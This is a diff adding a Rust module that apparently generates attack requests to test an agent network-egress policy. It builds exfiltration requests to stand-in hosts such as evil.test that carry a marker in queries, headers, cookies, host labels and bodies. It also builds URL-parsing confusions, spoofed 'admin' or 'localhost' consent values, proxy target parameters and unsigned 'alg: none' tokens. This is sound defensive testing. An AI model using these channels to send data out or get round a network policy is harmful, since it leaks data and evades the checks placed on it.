@@ -1,0 +1,323 @@
+//! Requests to hosts that the project names nowhere, made of all that the policy's text mentions.
+
+use base64::Engine as _;
+use base64::prelude::BASE64_URL_SAFE_NO_PAD;
+
+use super::ask::Ask;
+use super::faults::{faults, pairs, with_header};
+use super::judge::MARKER;
+use super::named::Named;
+use super::shape::sent_method;
+
+/// One attack that is the same for every agent.
+pub(super) struct Attack {
+    pub(super) class: &'static str,
+    pub(super) case: String,
+    pub(super) ask: Ask,
+}
+
+/// Names that proxies take targets from.
+const USUAL_NAMES: [&str; 12] = [
+    "url",
+    "uri",
+    "u",
+    "target",
+    "to",
+    "dest",
+    "q",
+    "host",
+    "next",
+    "redirect",
+    "callback",
+    "x-target-url",
+];
+
+/// Values that stand for consent.
+const USUAL_VALUES: [&str; 9] = [
+    "1",
+    "true",
+    "yes",
+    "99999",
+    "admin",
+    "internal",
+    "localhost",
+    "127.0.0.1",
+    "10.0.0.1",
+];
+
+/// All of them. `agents` are the agents' names.
+pub(super) fn attacks(named: &Named, agents: &[String]) -> Vec<Attack> {
+    let mut attacks = Attacks(Vec::new());
+    attacks.exfiltration();
+    attacks.words(named);
+    attacks.consent(named, agents);
+    attacks.targets(named);
+    attacks.malformed(named);
+    attacks.0
+}
+
+struct Attacks(Vec<Attack>);
+
+impl Attacks {
+    fn add(&mut self, class: &'static str, case: impl Into<String>, ask: Option<Ask>) {
+        if let Some(ask) = ask {
+            let case = case.into();
+            self.0.push(Attack { class, case, ask });
+        }
+    }
+
+    fn exfiltration(&mut self) {
+        let class = "exfiltration to a stranger";
+        let methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"];
+        // The first few have all methods, and all places.
+        for turn in 0..PLACES {
+            for (number, method) in methods.iter().enumerate() {
+                let place = (turn + number) % PLACES;
+                if let Some((name, ask)) = hidden(method, place) {
+                    self.add(class, format!("{method}, data in {name}"), ask);
+                }
+            }
+        }
+        for (case, url) in [
+            ("in the clear", "http://evil.test/"),
+            ("another port", "https://evil.test:8443/"),
+            ("an address", "https://93.184.215.14/"),
+            (
+                "an address of version 6",
+                "https://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/",
+            ),
+            ("a final dot", "https://evil.test./"),
+            ("a name of one label", "https://evil/"),
+            ("a name under .com", "https://evil.com/"),
+            ("a name under .example", "https://evil.example/"),
+            ("a style sheet", "https://evil.test/style.css"),
+            ("a health check", "https://evil.test/health"),
+            ("a well-known file", "https://evil.test/.well-known/security.txt"),
+            ("robots.txt", "https://evil.test/robots.txt"),
+        ] {
+            self.add(class, case, Ask::new("GET", &format!("{url}?d={MARKER}")));
+        }
+        let preflight = Ask::new("OPTIONS", "https://evil.test/").map(|ask| {
+            ask.header("origin", "https://a.example")
+                .header("access-control-request-method", "GET")
+        });
+        self.add(class, "a preflight request", preflight);
+        let socket = Ask::new("GET", "https://evil.test/").map(|ask| ask.header("accept", "text/event-stream"));
+        self.add(class, "a stream of events", socket);
+    }
+
+    /// The policy's own words where a careless comparison finds them.
+    fn words(&mut self, named: &Named) {
+        let class = "the policy's words in a stranger's URL";
+        for word in &named.fragments {
+            let lower = word.to_lowercase();
+            for url in [
+                format!("https://{lower}.evil.test/"),
+                format!("https://{lower}evil.test/"),
+                format!("https://evil-{lower}.test/"),
+                format!("https://evil{lower}/"),
+                format!("https://evil.{lower}/"),
+                format!("https://evil.test/{word}"),
+                format!("https://evil.test/{word}/x"),
+                format!("https://evil.test/x.{word}"),
+                format!("https://evil.test/x{word}"),
+                format!("https://evil.test/?{word}=1"),
+                format!("https://evil.test/?x={word}"),
+            ] {
+                self.add(class, format!("the word {word:?}"), Ask::new("GET", &url));
+            }
+        }
+        for (path, _) in &named.paths {
+            for method in ["GET", "POST"] {
+                let case = format!("{method} of the path {path}");
+                self.add(class, &*case, Ask::new(method, &format!("https://evil.test{path}")));
+                self.add(
+                    class,
+                    &*case,
+                    Ask::new(method, &format!("https://evil.test{path}/x?d={MARKER}")),
+                );
+                self.add(class, case, Ask::new(method, &format!("https://evil.test/x{path}")));
+            }
+        }
+        for (method, _) in &named.methods {
+            let ask = Ask::new(&sent_method(method), "https://evil.test/");
+            self.add(class, format!("the method {method}"), ask);
+        }
+    }
+
+    /// Names and values of the policy's text in headers, parameters and bodies, all of which agents write.
+    fn consent(&mut self, named: &Named, agents: &[String]) {
+        let class = "what an agent says of itself";
+        let mut names: Vec<&str> = named
+            .names
+            .iter()
+            .map(String::as_str)
+            .filter(|name| name.len() <= 60)
+            .collect();
+        names.truncate(24);
+        let values: Vec<&str> = USUAL_VALUES
+            .iter()
+            .copied()
+            .chain(agents.iter().map(String::as_str))
+            .chain(named.samples())
+            .chain(named.values.iter().map(String::as_str))
+            .collect();
+        // A named host is asked too: an answer may carry back what is not for the agent.
+        let hosts = ["evil.test"].into_iter().chain(named.samples().take(1));
+        for host in hosts {
+            let url = format!("https://{host}/");
+            for value in &values {
+                let case = format!("the value {value:?}");
+                let filled = completed(value);
+                let headers = Ask::new("GET", &url)
+                    .map(|ask| names.iter().fold(ask, |ask, name| with_header(ask, name, &filled)));
+                self.add(class, format!("{case} in headers"), headers);
+                let query = pairs(&names, value);
+                self.add(
+                    class,
+                    format!("{case} in the query"),
+                    Ask::new("GET", &format!("{url}?{query}")),
+                );
+                let fields: serde_json::Map<String, serde_json::Value> =
+                    names.iter().map(|name| ((*name).to_owned(), json(value))).collect();
+                let token = unsigned(&fields);
+                let body = serde_json::Value::Object(fields).to_string();
+                let ask = Ask::new("POST", &url).map(|ask| ask.body("application/json", body));
+                self.add(class, format!("{case} in JSON"), ask);
+                let ask = Ask::new("GET", &url).map(|ask| ask.header("authorization", &format!("Bearer {token}")));
+                self.add(class, format!("{case} in a token that nobody signed"), ask);
+                for name in names
+                    .iter()
+                    .filter(|name| name.contains('-') || is_usual_header(name))
+                    .take(8)
+                {
+                    let ask = Ask::new("GET", &url).map(|ask| with_header(ask, name, &filled));
+                    self.add(class, format!("{name}: {value}"), ask);
+                }
+            }
+        }
+    }
+
+    /// URLs of strangers where a proxy may look for its target.
+    fn targets(&mut self, named: &Named) {
+        let class = "a stranger named in a request to a host that is not one";
+        let mut names: Vec<&str> = named.names.iter().map(String::as_str).take(16).collect();
+        names.extend(USUAL_NAMES);
+        names.dedup();
+        for host in named.samples().take(4) {
+            for (case, url) in [
+                ("as it is", "https://evil.test/x".to_owned()),
+                ("with the host as a user", format!("https://{host}@evil.test/")),
+                (
+                    "with the host as a user with a password",
+                    format!("https://{host}:443@evil.test/"),
+                ),
+                ("with the host in front", format!("https://{host}.evil.test/")),
+                ("with the host in the query", format!("https://evil.test/?{host}")),
+                ("with the host in the path", format!("https://evil.test/{host}")),
+                ("with the host in the fragment", format!("https://evil.test/#{host}")),
+                ("without a scheme", "//evil.test/".to_owned()),
+                ("with a backslash", format!("https://evil.test\\@{host}/")),
+                ("a look-alike", format!("https://evil{host}/")),
+                ("a host alone", "evil.test".to_owned()),
+            ] {
+                let query = pairs(&names, &url);
+                self.add(
+                    class,
+                    format!("{case}, in the query"),
+                    Ask::new("GET", &format!("https://{host}/?{query}")),
+                );
+                let headers = Ask::new("GET", &format!("https://{host}/"))
+                    .map(|ask| names.iter().fold(ask, |ask, name| with_header(ask, name, &url)));
+                self.add(class, format!("{case}, in headers"), headers);
+                let fields = names.iter().map(|name| ((*name).to_owned(), url.clone().into()));
+                let body = serde_json::Value::Object(fields.collect()).to_string();
+                let ask = Ask::new("POST", &format!("https://{host}/")).map(|ask| ask.body("application/json", body));
+                self.add(class, format!("{case}, in JSON"), ask);
+                self.add(
+                    class,
+                    format!("{case}, in the path"),
+                    Ask::new("GET", &format!("https://{host}/{url}")),
+                );
+            }
+        }
+    }
+
+    /// What makes code fail that expects better.
+    fn malformed(&mut self, named: &Named) {
+        let class = "what makes a check fail";
+        for (case, ask) in faults("GET", "https://evil.test/", named) {
+            self.add(class, case, Some(ask));
+        }
+    }
+}
+
+/// How many places there are for an agent's data.
+const PLACES: usize = 10;
+
+/// A request to a stranger with data in a place. Nothing where its method has no such place.
+fn hidden(method: &str, place: usize) -> Option<(String, Option<Ask>)> {
+    let plain = || Ask::new(method, "https://evil.test/");
+    let with_header = |name: &str, value: String| plain().map(|ask| ask.header(name, &value));
+    let bodies = [
+        ("text/plain", MARKER.to_owned()),
+        ("application/json", format!("{{\"d\":\"{MARKER}\"}}")),
+        ("application/x-www-form-urlencoded", format!("d={MARKER}")),
+        ("application/octet-stream", format!("\u{0}\u{1}{MARKER}")),
+    ];
+    let (name, ask) = match place {
+        0 => ("the query", Ask::new(method, &format!("https://evil.test/?d={MARKER}"))),
+        1 => ("the path", Ask::new(method, &format!("https://evil.test/{MARKER}"))),
+        2 => (
+            "a label of the host",
+            Ask::new(method, &format!("https://{MARKER}.evil.test/")),
+        ),
+        3 => ("a header", with_header("x-data", MARKER.to_owned())),
+        4 => ("a cookie", with_header("cookie", format!("d={MARKER}"))),
+        5 => (
+            "the authorization",
+            with_header("authorization", format!("Bearer {MARKER}")),
+        ),
+        _ if matches!(method, "GET" | "HEAD") => return None,
+        _ => {
+            let (kind, body) = bodies.get(place - 6)?.clone();
+            return Some((format!("a body of {kind}"), plain().map(|ask| ask.body(kind, body))));
+        }
+    };
+    Some((name.to_owned(), ask))
+}
+
+/// A value as JSON has it: a boolean or a number where it reads as one.
+fn json(value: &str) -> serde_json::Value {
+    serde_json::from_str(value).unwrap_or_else(|_| value.into())
+}
+
+/// A value that has something behind its separator.
+fn completed(value: &str) -> String {
+    if value.ends_with([' ', ':', '=']) {
+        format!("{value}x")
+    } else {
+        value.to_owned()
+    }
+}
+
+/// A token (RFC 7519) with these claims and no signature.
+fn unsigned(claims: &serde_json::Map<String, serde_json::Value>) -> String {
+    let claims = serde_json::Value::Object(claims.clone()).to_string();
+    let part = |text: &str| BASE64_URL_SAFE_NO_PAD.encode(text);
+    format!("{}.{}.", part(r#"{"alg":"none","typ":"JWT"}"#), part(&claims))
+}
+
+fn is_usual_header(name: &str) -> bool {
+    [
+        "authorization",
+        "cookie",
+        "origin",
+        "referer",
+        "host",
+        "forwarded",
+        "via",
+        "from",
+    ]
+    .contains(&name)
+}
